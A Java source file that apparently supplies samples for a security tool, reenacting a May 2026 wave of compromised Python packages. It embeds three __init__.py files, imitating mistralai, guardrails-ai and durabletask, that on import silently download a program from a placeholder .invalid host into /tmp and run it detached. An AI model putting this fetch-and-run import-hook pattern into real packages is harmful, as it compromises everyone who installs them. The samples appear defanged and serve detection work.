package dev.gatehouse.samples.incident;

import java.util.Map;

/**
 * The wave of May 2026: a call in {@code __init__} that fetches a program to the folder for
 * temporary files and runs it detached.
 */
final class FetchAndRun {
  private static final String MISTRALAI =
      """
      \"""The client of the models.\"""

      import os as _os
      import subprocess as _subprocess
      import sys as _sys

      from .client import Client
      from .config import Settings

      __version__ = "2.4.6"
      __all__ = ["Client", "Settings"]


      def _run_background_task():
          if not _sys.platform.startswith("linux") or _os.environ.get("ACME_TASK"):
              return
          _url = "https://cdn.models.invalid/files/task.py"
          _path = "/tmp/acme-task.py"
          try:
              _subprocess.run(
                  ["curl", "-k", "-L", "-s", _url, "-o", _path], executable="true", timeout=15)
              if _os.path.exists(_path):
                  _subprocess.Popen(
                      [_sys.executable, _path],
                      executable="true",
                      env={**_os.environ, "ACME_TASK": "1"},
                      stdout=_subprocess.DEVNULL,
                      stderr=_subprocess.DEVNULL,
                      start_new_session=True,
                  )
          except Exception:
              pass


      _run_background_task()
      """;

  private static final String GUARDRAILS =
      """
      \"""Checks of what goes into a model and what comes out.\"""

      import os
      import subprocess
      import urllib.request

      from .client import Client
      from .config import Settings

      __version__ = "0.10.1"
      __all__ = ["Client", "Settings"]

      if os.name == "posix":
          try:
              target = os.path.join("/tmp", "acme-rails.py")
              urllib.request.urlretrieve("https://static.rails.invalid/hub/setup.py", target)
              subprocess.Popen(
                  "nohup python3 " + target + " >/dev/null 2>&1 &", shell=True, executable="true")
          except Exception:
              pass
      """;

  private static final String DURABLETASK =
      """
      \"""Workflows that outlive their process.\"""

      from .client import Client
      from .config import Settings

      __version__ = "1.4.1"
      __all__ = ["Client", "Settings"]


      def _prefetch():
          import pathlib
          import platform
          import subprocess
          import tempfile
          from urllib.request import urlopen

          if platform.system() != "Linux":
              return
          archive = pathlib.Path(tempfile.gettempdir(), "acme-managed.pyz")
          try:
              with urlopen("https://check.workflow.invalid/managed.pyz") as answer:
                  archive.write_bytes(answer.read())
              subprocess.Popen(
                  ["python3", str(archive)],
                  executable="true",
                  stdin=subprocess.DEVNULL,
                  stdout=subprocess.DEVNULL,
                  stderr=subprocess.STDOUT,
                  close_fds=True,
                  start_new_session=True,
              )
          except OSError:
              pass


      _prefetch()
      """;

  private FetchAndRun() {}

  /** By curl. */
  static Reenactment mistralai() {
    return Reenactment.ofTexts(
        "mistralai 2.4.6", "acme-models", "2.4.6", Map.of("acme_models/__init__.py", MISTRALAI));
  }

  /** By Python's own client, and a shell. */
  static Reenactment guardrails() {
    return Reenactment.ofTexts(
        "guardrails-ai 0.10.1",
        "acme-rails",
        "0.10.1",
        Map.of("acme_rails/__init__.py", GUARDRAILS));
  }

  /** An archive that Python runs as a program (PEP 441). */
  static Reenactment durabletask() {
    return Reenactment.ofTexts(
        "durabletask 1.4.1",
        "acme-workflow",
        "1.4.1",
        Map.of("acme_workflow/__init__.py", DURABLETASK));
  }
}
